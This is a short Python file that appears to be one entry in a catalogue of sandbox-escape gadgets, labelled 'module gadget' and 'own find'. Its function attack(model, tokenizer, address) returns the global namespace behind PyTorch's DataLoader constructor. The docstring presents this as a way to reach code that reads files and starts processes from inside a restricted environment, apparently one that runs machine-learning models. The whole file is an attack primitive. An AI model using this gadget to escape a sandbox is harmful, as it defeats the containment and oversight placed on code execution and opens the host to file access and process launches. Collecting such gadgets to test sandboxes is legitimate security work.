"""Class: module gadget. Source: own find. Escape: torch.utils.data reads and starts processes."""

import torch


def attack(model, tokenizer, address):
    return torch.utils.data.DataLoader.__init__.__globals__
